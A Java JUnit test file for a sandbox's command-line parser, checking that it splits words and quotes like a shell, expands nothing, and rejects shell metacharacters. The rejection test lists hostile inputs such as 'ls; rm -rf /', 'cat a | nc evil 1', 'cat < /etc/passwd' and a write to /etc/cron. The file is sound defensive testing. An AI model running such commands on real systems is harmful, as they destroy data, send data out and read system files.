package io.clawfleet.sandbox.exec;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CommandLineTest {

    @Test
    void wordsQuotesAndEscapesSplitLikeAShell() {
        assertThat(CommandLine.parse("ls -la  notes")).containsExactly("ls", "-la", "notes");
        assertThat(CommandLine.parse("grep 'two words' \"a \\\"quoted\\\" one\" back\\ slash")).containsExactly(
                "grep", "two words", "a \"quoted\" one", "back slash");
        assertThat(CommandLine.parse("echo ''")).containsExactly("echo", "");
    }

    @Test
    void nothingIsExpanded() {
        // variables, globs and tildes reach the program as written: there is no shell to expand them
        assertThat(CommandLine.parse("echo $HOME *.md ~ {a,b}")).containsExactly("echo", "$HOME", "*.md", "~", "{a,b}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"ls; rm -rf /", "cat a | nc evil 1", "ls && id", "ls & id", "cat < /etc/passwd",
            "echo x > /etc/cron", "echo `id`", "echo $(id)", "echo ${PATH}", "ls\n;id"})
    void shellMetacharactersAreRefused(String command) {
        assertThatThrownBy(() -> CommandLine.parse(command)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("without a shell");
    }

    @Test
    void quotedMetacharactersAreJustText() {
        assertThat(CommandLine.parse("echo 'a; b | c' \"$(not run)\" \\&")).containsExactly("echo", "a; b | c", "$(not run)", "&");
    }

    @Test
    void malformedCommandsSayWhatIsWrong() {
        assertThatThrownBy(() -> CommandLine.parse("echo 'open")).hasMessageContaining("single quote");
        assertThatThrownBy(() -> CommandLine.parse("echo \"open")).hasMessageContaining("double quote");
        assertThatThrownBy(() -> CommandLine.parse("   ")).hasMessageContaining("empty");
        assertThatThrownBy(() -> CommandLine.parse("echo \\")).hasMessageContaining("backslash");
        assertThatThrownBy(() -> CommandLine.parse("echo a\0b")).hasMessageContaining("NUL");
    }
}
